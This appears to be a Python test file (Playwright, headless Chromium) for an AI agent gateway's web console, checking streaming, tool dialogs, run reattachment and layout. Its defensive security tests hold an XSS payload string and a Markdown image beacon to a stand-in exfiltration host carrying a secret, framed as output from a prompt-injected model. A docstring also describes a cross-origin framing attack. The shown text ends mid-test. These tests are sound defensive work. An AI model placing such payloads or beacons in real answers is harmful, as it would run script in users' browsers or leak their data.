"""The built-in web console (``GET /``, ``app/web/``) in real headless Chromium against a real gateway.

Every test drives the page the way a user does (pick an agent, type, press Send) while the fake
upstream plays a script; assertions wait on the DOM with Playwright's ``expect`` (no sleeps).
Streaming is checked with gates: the page must show a delta while the upstream is still
holding back the next one. Runs outlive the page (SPEC §15): reloads and cut connections
re-attach to the run; requests the test must observe mid-flight are held with ``page.route``.
"""

from __future__ import annotations

import asyncio
import contextlib
import re
from collections.abc import AsyncIterator, Callable
from urllib.parse import parse_qs, urlsplit, urlunsplit
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from playwright.async_api import Browser, Page, Route, expect

from app.devtools import FakeUpstream
from app.devtools.script import Finish, Gate, Reasoning, Text, Usage, http_error_script, text_script
from tests.engine.helpers import call, tool_message
from tests.security.support import ISSUER, mint, rsa_pair
from tests.support.deployment import agent, write_agent
from tests.support.browser import checked_page, headless_chromium
from tests.support.server import GatewayServer

#: generous upper bound for one DOM wait; only turns a hang into a failure
WAIT_MS = 10_000
NO_TOOLS: dict[str, list[str]] = {"backends": [], "frontends": [], "actions": []}


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    async with headless_chromium("web console tests") as instance:
        yield instance


@pytest.fixture
async def page(browser: Browser) -> AsyncIterator[Page]:
    async with checked_page(browser, WAIT_MS) as tab:
        yield tab


async def open_console(page: Page, gw: GatewayServer, agent_key: str) -> None:
    await page.goto(gw.url + "/")
    await expect(page.locator(f'#agent option[value="{agent_key}"]')).to_have_count(1)
    await page.select_option("#agent", agent_key)


async def ask(page: Page, message: str) -> None:
    await page.fill("#message", message)
    await page.click("#send")


def answer(page: Page) -> Any:
    """The answer text of the latest assistant turn."""
    return page.locator(".msg.assistant").last.locator(".content")


async def test_page_is_public_and_lists_the_agents(
    deploy: Path, start_gateway: Callable[..., GatewayServer], client: httpx.AsyncClient, page: Page
) -> None:
    write_agent(deploy, "alpha", agent(name="Alpha helper", icon="emoji:🌦️"))
    write_agent(deploy, "beta", agent("REACT", name="Beta helper"))
    gw = start_gateway()
    for path, kind in (("/", "text/html"), ("/console/console.js", "javascript"), ("/console/console.css", "text/css")):
        response = await client.get(gw.url + path)
        assert response.status_code == 200 and kind in response.headers["content-type"], path
    assert (await client.get(gw.url + "/console/../api/app.py")).status_code == 404
    await page.goto(gw.url + "/")
    options = page.locator("#agent option")
    await expect(options).to_have_count(2)
    assert sorted(await options.evaluate_all("os => os.map(o => o.value)")) == ["alpha", "beta"]
    await expect(page.locator('#agent option[value="alpha"]')).to_have_text("🌦️ Alpha helper (alpha)")
    await expect(page.locator("#auth")).to_be_hidden()


async def test_answer_streams_delta_by_delta(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    """Each delta is on screen while the upstream still withholds the next one; then history and follow-up."""
    write_agent(deploy, "plain", agent())
    gw = start_gateway()
    upstream.enqueue([Text("Hello"), Gate("g1"), Text(", streaming"), Gate("g2"), Text(" world."),
                      Usage(10, 5), Finish()])
    await open_console(page, gw, "plain")
    await ask(page, "hi")
    await expect(page.locator(".msg.user")).to_have_text("hi")
    await expect(answer(page)).to_have_text("Hello")
    upstream.release("g1")
    await expect(answer(page)).to_have_text("Hello, streaming")
    assert await page.locator(".done").count() == 0
    upstream.release("g2")
    await expect(page.locator(".done")).to_contain_text("15 tokens")
    assert await answer(page).text_content() == "Hello, streaming world."
    # the chat is in the sidebar; "New chat" clears; clicking the chat replays it from history
    chat_item = page.locator("#chats li")
    await expect(chat_item).to_have_count(1)
    await page.click("#new-chat")
    await expect(page.locator("#log > *")).to_have_count(0)
    await chat_item.click()
    await expect(page.locator(".msg.user")).to_have_text("hi")
    await expect(answer(page)).to_have_text("Hello, streaming world.")
    # a follow-up goes to the same chat: the model sees the first exchange
    upstream.enqueue(text_script(["Again."]))
    await ask(page, "more")
    await expect(answer(page)).to_have_text("Again.")
    await expect(page.locator(".done")).to_have_count(2)
    messages = upstream.requests[1].body["messages"]
    assert any(m.get("role") == "assistant" and m.get("content") == "Hello, streaming world." for m in messages)
    await expect(page.locator("#chats li")).to_have_count(1)


async def test_frontend_tool_answered_in_its_iframe_continues_the_stream(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    """THE frontend-tool flow: viewport iframe ← tool_init, click → frontend_submit → POST submit → same stream."""
    write_agent(deploy, "confirm", agent("REACT", tools={**NO_TOOLS, "frontends": ["confirm_dialog"]}))
    gw = start_gateway()
    upstream.enqueue(call("c1", "confirm_dialog", {"question": "Proceed?", "options": ["Yes", "No"]}),
                     text_script(["Confirmed, ", "proceeding."]))
    await open_console(page, gw, "confirm")
    await ask(page, "deploy it")
    dialog = page.frame_locator("iframe.frontend")
    await expect(dialog.locator(".question")).to_have_text("Proceed?")  # tool_init carried the parsed args
    assert await page.locator("iframe.frontend").get_attribute("sandbox") == "allow-scripts"
    assert await page.locator(".done").count() == 0  # the run is waiting for the answer
    await dialog.get_by_role("button", name="Yes").click()
    await dialog.locator("button.primary").click()
    await expect(page.locator(".done")).to_be_visible()
    await expect(answer(page).last).to_have_text("Confirmed, proceeding.")
    await expect(page.locator(".tool .result")).to_contain_text('"selectedOption": "Yes"')
    assert len(upstream.requests) == 2
    submitted = orjson.loads(tool_message(upstream.requests[1].body, "c1")["content"])
    assert submitted["selectedOption"] == "Yes" and submitted["confirmed"] is True


async def test_switch_theme_action_switches_the_page_theme(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    write_agent(deploy, "ui", agent(tools={**NO_TOOLS, "actions": ["switch_theme"]}))
    gw = start_gateway()
    upstream.enqueue(call("c1", "switch_theme", {"theme": "dark"}), text_script(["Dark it is."]))
    await open_console(page, gw, "ui")
    html = page.locator("html")
    await expect(html).to_have_class(re.compile(r"\blight\b"))
    await ask(page, "dark please")
    await expect(html).to_have_class(re.compile(r"\bdark\b"))
    await expect(answer(page).last).to_have_text("Dark it is.")
    await expect(page.locator(".action")).to_contain_text("switch_theme")


async def test_reasoning_is_shown_apart_from_the_answer(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    write_agent(deploy, "thinker", agent(reasoning=True))
    gw = start_gateway()
    upstream.enqueue(text_script(["The answer ", "is 4."], reasoning=["Two plus ", "two."]))
    await open_console(page, gw, "thinker")
    await ask(page, "2+2?")
    await expect(page.locator(".done")).to_be_visible()
    await expect(page.locator(".msg.assistant details.reasoning .reasoning-text")).to_have_text("Two plus two.")
    assert await answer(page).text_content() == "The answer is 4."
    assert await page.locator(".content details.reasoning").count() == 0


async def test_run_error_is_shown_as_an_error(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    write_agent(deploy, "fragile", agent(budget={"model": {"maxCalls": 2, "timeoutMs": 5000, "retryCount": 0}}))
    gw = start_gateway()
    upstream.enqueue(http_error_script(500, "upstream exploded"))
    await open_console(page, gw, "fragile")
    await ask(page, "hi")
    error = page.locator(".msg.assistant .error")
    await expect(error).to_contain_text("upstream_http_error")
    color = await error.evaluate("e => getComputedStyle(e).color")
    assert color == "rgb(207, 34, 46)"  # --bad, the light theme's red
    assert await page.locator(".done").count() == 0


async def test_auth_asks_for_a_token_and_sends_it(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    key = rsa_pair()
    write_agent(deploy, "plain", agent())
    gw = start_gateway({"agent": {"auth": {"enabled": True, "local-public-key": key.public_pem, "issuer": ISSUER}}})
    await page.goto(gw.url + "/")  # the page itself is public
    await expect(page.locator("#auth")).to_be_visible()
    await page.fill("#token", mint(key, "alice"))
    await page.click("#auth button")
    await expect(page.locator("#auth")).to_be_hidden()
    await expect(page.locator('#agent option[value="plain"]')).to_have_count(1)
    upstream.enqueue(text_script(["Authorised."]))
    await ask(page, "hi")
    await expect(answer(page)).to_have_text("Authorised.")


async def test_viewport_block_in_the_answer_renders_the_card(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    write_agent(deploy, "cards", agent())
    gw = start_gateway()
    card = orjson.dumps({"city": "Shanghai", "date": "2026-02-13", "temperatureC": 22}).decode()
    block = f"```viewport\ntype=html, key=show_weather_card\n{card}\n```"
    upstream.enqueue(text_script(["Here you go:\n", block[:20], block[20:], "\nEnjoy."]))
    await open_console(page, gw, "cards")
    await ask(page, "weather")
    await expect(page.locator(".done")).to_be_visible()
    await expect(answer(page).locator("iframe.viewport")).to_have_count(1)  # after the viewport fetch
    await expect(page.frame_locator(".content iframe.viewport").locator("#root")).to_contain_text("Shanghai")
    await expect(answer(page)).to_have_text("Here you go:\n\nEnjoy.")


# ---- runs outlive the page (SPEC §15) -------------------------------------------------------------

CHAT_KEY = "agw.console.chat"
RUN_KEY = "agw.console.run."


class CuttableProxy:
    """A loopback TCP proxy in front of the gateway; ``cut()`` resets every open connection
    (what a flaky network does to a long SSE response), new connections keep working."""

    def __init__(self, target_port: int) -> None:
        self._target_port = target_port
        self._server: asyncio.Server | None = None
        self._writers: set[asyncio.StreamWriter] = set()
        self._tasks: set[asyncio.Task[None]] = set()
        self.port = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def __aenter__(self) -> CuttableProxy:
        self._server = await asyncio.start_server(self._accepted, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *exc: object) -> None:
        assert self._server is not None
        self._server.close()
        self.cut()
        for task in list(self._tasks):
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    def cut(self) -> None:
        for writer in list(self._writers):
            writer.transport.abort()
        self._writers.clear()

    def _accepted(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.create_task(self._serve(reader, writer))
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        up_reader, up_writer = await asyncio.open_connection("127.0.0.1", self._target_port)
        self._writers.update((writer, up_writer))
        pumps = [asyncio.create_task(_pump(reader, up_writer)), asyncio.create_task(_pump(up_reader, writer))]
        try:
            await asyncio.wait(pumps, return_when=asyncio.FIRST_COMPLETED)
        finally:
            for pump in pumps:
                pump.cancel()
            for end in (writer, up_writer):
                self._writers.discard(end)
                end.transport.abort()


async def _pump(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
    with contextlib.suppress(ConnectionError, OSError):
        while data := await source.read(65536):
            sink.write(data)
            await sink.drain()


async def hold(page: Page, pattern: str) -> asyncio.Queue[Route]:
    """Requests matching ``pattern`` wait in the returned queue until the test continues them."""
    held: asyncio.Queue[Route] = asyncio.Queue()
    await page.route(pattern, held.put_nowait)
    return held


async def next_held(held: asyncio.Queue[Route]) -> Route:
    return await asyncio.wait_for(held.get(), WAIT_MS / 1000)


async def session_item(page: Page, key: str) -> Any:
    raw = await page.evaluate("key => sessionStorage.getItem(key)", key)
    return None if raw is None else orjson.loads(raw) if raw.startswith("{") else raw


async def test_reload_while_confirm_dialog_waits_reattaches_and_completes(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], client: httpx.AsyncClient,
    page: Page,
) -> None:
    write_agent(deploy, "confirm", agent("REACT", tools={**NO_TOOLS, "frontends": ["confirm_dialog"]}))
    gw = start_gateway()
    upstream.enqueue(call("c1", "confirm_dialog", {"question": "Proceed?", "options": ["Yes", "No"]}),
                     text_script(["Confirmed, ", "proceeding."]))
    await open_console(page, gw, "confirm")
    await ask(page, "deploy it")
    await expect(page.frame_locator("iframe.frontend").locator(".question")).to_have_text("Proceed?")
    record = await session_item(page, RUN_KEY + await session_item(page, CHAT_KEY))
    assert record["runId"] and record["lastSeq"] > 0  # the page remembers the run it is drawing

    await page.reload()
    # the run kept waiting: the replay re-opens its dialog (with the arguments) in the same chat
    dialog = page.frame_locator("iframe.frontend")
    await expect(dialog.locator(".question")).to_have_text("Proceed?")
    await expect(page.locator(".msg.user")).to_have_text(["deploy it"])
    await expect(page.locator("iframe.frontend")).to_have_count(1)
    await dialog.get_by_role("button", name="Yes").click()
    await dialog.locator("button.primary").click()

    await expect(page.locator(".done")).to_have_count(1)
    await expect(page.locator(".content")).to_have_text(["Confirmed, proceeding."])  # once, no repeated deltas
    await expect(page.locator(".tool")).to_have_count(1)
    await expect(page.locator(".tool .result")).to_contain_text('"selectedOption": "Yes"')
    await expect(page.locator("#reconnecting")).to_be_hidden()
    assert len(upstream.requests) == 2  # one run: the reload neither cancelled nor restarted it
    run = (await client.get(gw.url + "/api/ap/run", params={"runId": record["runId"]})).json()["data"]
    assert run["status"] == "completed" and run["pendingTools"] == []
    assert await session_item(page, RUN_KEY + run["chatId"]) is None  # an ended run is forgotten


async def test_reload_during_streaming_reattaches_and_shows_the_full_answer_once(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    write_agent(deploy, "plain", agent())
    gw = start_gateway()
    upstream.enqueue([Text("Hello"), Gate("g1"), Text(", world."), Usage(10, 5), Finish()])
    await open_console(page, gw, "plain")
    await ask(page, "hi")
    await expect(answer(page)).to_have_text("Hello")

    attaches = await hold(page, "**/api/ap/run/stream?*")
    await page.reload()
    attach = await next_held(attaches)
    # while re-attaching: the state is shown, and the open run is not drawn from the history
    await expect(page.locator("#reconnecting")).to_be_visible()
    assert await page.locator(".msg").count() == 0
    assert parse_qs(urlsplit(attach.request.url).query)["after"] == ["0"]
    await attach.continue_()
    await expect(answer(page)).to_have_text("Hello")
    await expect(page.locator("#reconnecting")).to_be_hidden()
    assert await page.locator(".done").count() == 0  # attached to the live run, still streaming

    upstream.release("g1")
    await expect(page.locator(".done")).to_contain_text("15 tokens")
    await expect(page.locator(".content")).to_have_text(["Hello, world."])
    await expect(page.locator(".msg.user")).to_have_text(["hi"])
    assert len(upstream.requests) == 1


async def test_cut_stream_reattaches_after_the_last_drawn_seq_and_skips_replayed_events(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    """The query's connection is reset mid-answer: the page re-attaches with ``after=<last seq
    drawn>``; even a replay from seq 0 (forced here) draws nothing twice."""
    write_agent(deploy, "plain", agent())
    gw = start_gateway()
    upstream.enqueue([Text("Hello"), Gate("g1"), Text(", world."), Usage(10, 5), Finish()])
    async with CuttableProxy(gw.port) as proxy:
        await page.goto(proxy.url + "/")
        await page.select_option("#agent", "plain")
        await ask(page, "hi")
        await expect(answer(page)).to_have_text("Hello")
        record = await session_item(page, RUN_KEY + await session_item(page, CHAT_KEY))

        attaches = await hold(page, "**/api/ap/run/stream?*")
        proxy.cut()
        attach = await next_held(attaches)
        await expect(page.locator("#reconnecting")).to_be_visible()
        url = urlsplit(attach.request.url)
        query = parse_qs(url.query)
        assert query["runId"] == [record["runId"]] and query["after"] == [str(record["lastSeq"])]
        assert record["lastSeq"] > 0
        await attach.continue_(url=urlunsplit(url._replace(query=f"runId={record['runId']}&after=0")))
        await expect(page.locator("#reconnecting")).to_be_hidden()

        upstream.release("g1")
        await expect(page.locator(".done")).to_have_count(1)
        await expect(page.locator(".content")).to_have_text(["Hello, world."])
        await expect(page.locator(".msg.user")).to_have_text(["hi"])
        assert len(upstream.requests) == 1


async def test_opening_a_chat_whose_run_is_live_attaches_to_it(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    """A second tab (nothing remembered) finds the chat's open run and watches it live with the first."""
    write_agent(deploy, "plain", agent())
    gw = start_gateway()
    upstream.enqueue(text_script(["Earlier answer."]))
    upstream.enqueue([Text("Hello"), Gate("g1"), Text(", world."), Usage(10, 5), Finish()])
    await open_console(page, gw, "plain")
    await ask(page, "first")
    await expect(page.locator(".done")).to_have_count(1)
    await ask(page, "second")
    await expect(answer(page)).to_have_text("Hello")

    other = await page.context.new_page()
    errors: list[str] = []
    other.on("pageerror", lambda exc: errors.append(str(exc)))
    await other.goto(gw.url + "/")
    await other.locator("#chats li").click()
    await expect(other.locator(".msg.user")).to_have_text(["first", "second"])
    await expect(answer(other)).to_have_text("Hello")
    await expect(other.locator(".done")).to_have_count(1)  # only the ended run is finished

    upstream.release("g1")
    for tab in (page, other):
        await expect(tab.locator(".done")).to_have_count(2)
        await expect(tab.locator(".content")).to_have_text(["Earlier answer.", "Hello, world."])
    assert errors == []


async def test_remembered_run_the_gateway_no_longer_knows_is_reported_expired(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    write_agent(deploy, "plain", agent())
    gw = start_gateway()
    upstream.enqueue(text_script(["Done."]))
    await open_console(page, gw, "plain")
    await ask(page, "hi")
    await expect(page.locator(".done")).to_have_count(1)
    chat_id = await session_item(page, CHAT_KEY)
    await page.evaluate("([key, value]) => sessionStorage.setItem(key, value)",
                        [RUN_KEY + chat_id, orjson.dumps({"runId": "run_gone", "lastSeq": 7}).decode()])
    await page.reload()
    await expect(page.locator(".msg.assistant .error")).to_contain_text("run_gone has expired")
    await expect(page.locator(".content")).to_have_text(["Done."])  # the history is still shown
    await expect(page.locator("#reconnecting")).to_be_hidden()
    assert await session_item(page, RUN_KEY + chat_id) is None


async def test_stop_interrupts_the_run_that_outlives_its_connection(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], client: httpx.AsyncClient,
    page: Page,
) -> None:
    """With ``onDisconnect: continue`` closing the stream would not stop the run: Stop interrupts it."""
    write_agent(deploy, "plain", agent())
    gw = start_gateway()
    upstream.enqueue([Text("Hello"), Gate("never"), Text(" unreachable."), Finish()])
    await open_console(page, gw, "plain")
    await ask(page, "hi")
    await expect(answer(page)).to_have_text("Hello")
    record = await session_item(page, RUN_KEY + await session_item(page, CHAT_KEY))
    await expect(page.locator("#send")).to_have_text("Stop")
    await page.click("#send")
    await expect(page.locator(".done")).to_have_text("cancelled")
    await expect(page.locator("#send")).to_have_text("Send")
    run = (await client.get(gw.url + "/api/ap/run", params={"runId": record["runId"]})).json()["data"]
    assert run["status"] == "cancelled"


# ---- reading experience: Markdown, reasoning, layout, viewport heights --------------------------

XSS_PAYLOAD = (
    '<img src=x onerror="window.__xss = \'img\'"> <script>window.__xss = "script"</script>\n\n'
    '<a href="javascript:window.__xss=\'a\'" onclick="window.__xss=\'onclick\'">raw link</a> '
    "[md link](javascript:window.__xss='md') <svg onload=\"window.__xss='svg'\"></svg>\n"
)
MARKDOWN_ANSWER = (
    "# Report\n\nSee **the docs** at [the site](https://example.com/docs).\n\n"
    "- first item\n- second item\n\n"
    "```python\nprint('<b>not bold</b>')\n```\n\n"
    "| name | value |\n|------|-------|\n| alpha | 1 |\n| beta | 2 |\n\n"
)


async def markup_of(page: Page) -> dict[str, Any]:
    """What the latest answer's Markdown turned into: counts of the elements an attack would need."""
    result: dict[str, Any] = await answer(page).evaluate("""c => ({
        xss: window.__xss === undefined ? null : String(window.__xss),
        imgs: c.querySelectorAll("img").length,
        scripts: c.querySelectorAll("script").length,
        svgs: c.querySelectorAll("svg").length,
        handlers: [...c.querySelectorAll("*")].filter(n => [...n.attributes].some(a => /^on/i.test(a.name))).length,
        jsLinks: [...c.querySelectorAll("a")].filter(a => /^\\s*javascript:/i.test(a.getAttribute("href") || "")).length,
    })""")
    return result


async def test_attack_xss_in_the_model_answer_does_not_execute_and_markdown_renders(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    """A (prompt-injected) answer carrying raw HTML: it is shown as text, never parsed; the
    Markdown around it renders, delta by delta, live and from the history."""
    write_agent(deploy, "md", agent())
    gw = start_gateway()
    text = MARKDOWN_ANSWER + XSS_PAYLOAD
    cut = text.index("- second item") + len("- sec")
    upstream.enqueue([Text(text[:20]), Text(text[20:cut]), Gate("g1"), Text(text[cut:]), Usage(10, 5), Finish()])
    await open_console(page, gw, "md")
    await ask(page, "report")
    # incremental: the structures so far are rendered while the upstream withholds the rest
    content = answer(page)
    await expect(content.locator("h1")).to_have_text("Report")
    await expect(content.locator("ul > li")).to_have_text(["first item", "sec"])
    upstream.release("g1")
    await expect(page.locator(".done")).to_be_visible()

    for replay in (False, True):
        if replay:  # the same answer drawn from GET /api/ap/chat (content.snapshot)
            await page.click("#new-chat")
            await page.locator("#chats li").click()
            await expect(page.locator(".msg.user")).to_have_text("report")
        content = answer(page)
        await expect(content.locator("h1")).to_have_text("Report")
        await expect(content.locator("strong")).to_have_text("the docs")
        await expect(content.locator("ul > li")).to_have_text(["first item", "second item"])
        await expect(content.locator("pre > code")).to_have_text("print('<b>not bold</b>')")
        assert await content.locator("pre b").count() == 0
        await expect(content.locator("table th")).to_have_text(["name", "value"])
        await expect(content.locator("table tbody tr")).to_have_count(2)
        await expect(content.locator("table tbody td")).to_have_text(["alpha", "1", "beta", "2"])
        link = content.locator("a", has_text="the site")
        assert await link.get_attribute("href") == "https://example.com/docs"
        assert await link.get_attribute("target") == "_blank"
        assert "noopener" in (await link.get_attribute("rel") or "").split()
        # the attack: shown as text, nothing of it became markup
        await expect(content).to_contain_text('<img src=x onerror="window.__xss')
        await expect(content).to_contain_text('<script>window.__xss = "script"</script>')
        await expect(content).to_contain_text("[md link](javascript:")
        await content.get_by_text("raw link").click()
        await content.get_by_text("md link").click()
        assert await markup_of(page) == {"xss": None, "imgs": 0, "scripts": 0, "svgs": 0, "handlers": 0,
                                         "jsLinks": 0}


async def test_attack_markdown_image_beacons_data_to_a_remote_host(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    """``![x](https://attacker/?q=<secret>)`` in an answer would be fetched the moment it is drawn:
    images are drawn as links, nothing is requested from the image's host."""
    write_agent(deploy, "md", agent())
    gw = start_gateway()
    beacons: list[str] = []

    async def beacon(route: Route) -> None:
        beacons.append(route.request.url)
        await route.abort()

    await page.route("**/exfil.invalid/**", beacon)
    upstream.enqueue(text_script(["Here: ![the chart](https://exfil.invalid/c.png?q=secret) done."]))
    await open_console(page, gw, "md")
    await ask(page, "chart")
    await expect(page.locator(".done")).to_be_visible()
    link = answer(page).locator("a.image-link")
    await expect(link).to_have_text("🖼 the chart")
    assert await link.get_attribute("href") == "https://exfil.invalid/c.png?q=secret"
    assert await link.get_attribute("rel") == "noopener noreferrer"
    assert (await markup_of(page))["imgs"] == 0
    assert beacons == []


async def test_reasoning_is_visible_while_it_streams_then_folds_and_reopens(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    write_agent(deploy, "thinker", agent(reasoning=True))
    gw = start_gateway()
    upstream.enqueue([Reasoning("Two plus "), Reasoning("two is four."), Gate("g1"),
                      Text("The answer is **4**."), Usage(10, 5), Finish()])
    await open_console(page, gw, "thinker")
    await ask(page, "2+2?")
    box = page.locator(".msg.assistant details.reasoning")
    await expect(box.locator(".reasoning-text")).to_have_text("Two plus two is four.")
    await expect(box.locator(".reasoning-text")).to_be_visible()  # open while it streams
    await expect(box.locator("summary")).to_have_text("Thinking…")
    assert await page.locator(".done").count() == 0

    upstream.release("g1")
    await expect(page.locator(".done")).to_be_visible()
    await expect(answer(page).locator("strong")).to_have_text("4")
    await expect(box.locator(".reasoning-text")).to_be_hidden()  # folded once the answer came
    await expect(box.locator("summary")).to_have_text("Reasoning")
    await box.locator("summary").click()
    await expect(box.locator(".reasoning-text")).to_be_visible()
    await expect(box.locator(".reasoning-text")).to_have_text("Two plus two is four.")


WIDE_ANSWER = (
    "## Shipping summary\n\n"
    "Tracking: https://example.com/track/" + "x" * 120 + "\n\n"
    "1. Packed\n2. Shipped\n3. Out for delivery\n\n"
    "```\n" + "long_code_line = " + "'abcdefghij' + " * 20 + "'end'\n```\n\n"
    "| id | carrier | status | location | updated | note |\n|---|---|---|---|---|---|\n"
    "| 1 | Express Logistics | in transit | Shanghai distribution centre | 2026-02-13 10:00 | fragile |\n\n"
)


async def test_layout_fits_phone_and_desktop_widths(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page, tmp_path: Path
) -> None:
    """No horizontal page overflow at 390 px or 1280 px; on a phone the sidebar is a drawer.
    Screenshots: ``layout-390x844.png`` and ``layout-1280x800.png`` under tmp_path."""
    write_agent(deploy, "wide", agent(reasoning=True, name="A helper with a rather long display name"))
    gw = start_gateway()
    card = orjson.dumps({"city": "Shanghai", "date": "2026-02-13", "temperatureC": 22}).decode()
    upstream.enqueue(text_script([WIDE_ANSWER, f"```viewport\ntype=html, key=show_weather_card\n{card}\n```\nDone."],
                                 reasoning=["Looking up the shipment and the weather."]))
    await page.set_viewport_size({"width": 390, "height": 844})
    await open_console(page, gw, "wide")
    sidebar = page.locator("#sidebar")
    toggle = page.locator("#sidebar-toggle")
    await expect(toggle).to_be_visible()
    await expect(sidebar).to_be_hidden()
    await ask(page, "where is my parcel? " + "please " * 30)
    await expect(page.locator(".done")).to_be_visible()
    await expect(page.frame_locator(".content iframe.viewport").locator("#root")).to_contain_text("Shanghai")
    frame = answer(page).locator("iframe.viewport")
    await expect(frame).not_to_have_css("height", "150px")  # fitted to the card
    await expect(answer(page).locator("table")).to_be_visible()

    for width, height in ((390, 844), (1280, 800)):
        await page.set_viewport_size({"width": width, "height": height})
        sizes = await page.evaluate(
            "() => ({scroll: document.scrollingElement.scrollWidth, inner: innerWidth,"
            " composer: document.getElementById('composer').getBoundingClientRect().right})")
        assert sizes["scroll"] <= sizes["inner"] == width, sizes
        assert sizes["composer"] <= width, sizes
        await page.screenshot(path=str(tmp_path / f"layout-{width}x{height}.png"), animations="disabled")
        if width == 390:
            await expect(sidebar).to_be_hidden()
            await toggle.click()
            await expect(sidebar).to_be_visible()
            await expect(toggle).to_have_attribute("aria-expanded", "true")
            await page.screenshot(path=str(tmp_path / "layout-390x844-sidebar.png"), animations="disabled")
            await page.locator("#chats li").click()  # reopening a chat closes the drawer
            await expect(sidebar).to_be_hidden()
            await expect(page.locator(".done")).to_be_visible()
            await page.fill("#message", "typed on a phone")  # the input is usable
            await expect(page.locator("#message")).to_have_value("typed on a phone")
        else:
            await expect(toggle).to_be_hidden()
            await expect(sidebar).to_be_visible()


GROW_VIEWPORT = """<!DOCTYPE html>
<html><body style="margin:0"><div id="root" style="background:#def"></div>
<script>
addEventListener("message", (event) => {
  if (event.source !== parent || !event.data || event.data.type !== "viewport_init") return;
  const root = document.getElementById("root");
  root.style.height = event.data.data.px + "px";
  root.textContent = "grown to " + event.data.data.px;
});
</script></body></html>
"""


async def test_viewport_iframe_grows_to_its_content_up_to_a_cap(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    (deploy / "viewports" / "grow_card.html").write_text(GROW_VIEWPORT, encoding="utf-8")
    write_agent(deploy, "cards", agent())
    gw = start_gateway()
    blocks = [f"```viewport\ntype=html, key=grow_card\n{{\"px\": {px}}}\n```\n" for px in (480, 3000)]
    upstream.enqueue(text_script(["Small:\n", blocks[0], "Huge:\n", blocks[1]]))
    await open_console(page, gw, "cards")
    await ask(page, "cards")
    frames = answer(page).locator("iframe.viewport")
    await expect(frames).to_have_count(2)
    for index, px in enumerate((480, 3000)):
        await expect(page.frame_locator(".content iframe.viewport").nth(index).locator("#root")).to_have_text(
            f"grown to {px}")
    small, huge = frames.nth(0), frames.nth(1)
    await expect(small).to_have_css("height", "480px")  # exactly its content, no inner scrollbar
    cap = await huge.evaluate("f => parseFloat(getComputedStyle(f).maxHeight)")
    assert 0 < cap < 3000
    await expect(huge).to_have_js_property("clientHeight", int(cap))  # capped…
    inner = await (await huge.element_handle()).content_frame()
    assert inner is not None
    scroll = await inner.evaluate("() => [document.scrollingElement.scrollHeight, innerHeight]")
    assert scroll == [3000, int(cap)]  # …and its content scrolls inside



async def test_a_viewport_growing_while_scrolled_out_of_sight_still_gets_its_height(
    deploy: Path, upstream: FakeUpstream, start_gateway: Callable[..., GatewayServer], page: Page
) -> None:
    """Chromium runs no ResizeObserver in a sandboxed frame out of sight; the DOM change must still be reported."""
    (deploy / "viewports" / "grow_card.html").write_text(GROW_VIEWPORT, encoding="utf-8")
    write_agent(deploy, "cards", agent())
    gw = start_gateway()
    filler = "".join(f"line {n}\n\n" for n in range(150))  # pushes the block far above the bottom
    upstream.enqueue(text_script(["Card:\n", "```viewport\ntype=html, key=grow_card\n{\"px\": 200}\n```\n", filler]))
    await open_console(page, gw, "cards")
    await ask(page, "cards")
    await expect(page.locator(".done")).to_be_visible()
    frame = answer(page).locator("iframe.viewport")
    await expect(page.frame_locator(".content iframe.viewport").locator("#root")).to_have_text("grown to 200")
    await page.evaluate("() => { const log = document.getElementById('log'); log.scrollTop = log.scrollHeight; }")
    out_of_sight = await frame.evaluate(
        "f => { const log = document.getElementById('log').getBoundingClientRect();"
        " return f.getBoundingClientRect().bottom < log.top; }")
    assert out_of_sight
    await frame.evaluate("f => f.contentWindow.postMessage({type: 'viewport_init', data: {px: 420}}, '*')")
    await expect(page.frame_locator(".content iframe.viewport").locator("#root")).to_have_text("grown to 420")
    await expect(frame).to_have_css("height", "420px")


async def test_attack_console_cannot_be_framed_by_another_origin(
    deploy: Path, start_gateway: Callable[..., GatewayServer], client: httpx.AsyncClient, browser: Browser
) -> None:
    """With auth off, a page on another origin framed the console invisibly: the user's clicks on
    that page answered a waiting frontend tool through the frame, whose requests come from the
    gateway's own origin (the cross-site guard refuses the page's own). The console now refuses
    to be framed by another origin."""
    import http.server
    import socketserver
    import threading

    write_agent(deploy, "alpha", agent(name="Alpha helper"))
    gw = start_gateway()
    for path in ("/", "/console/console.js"):
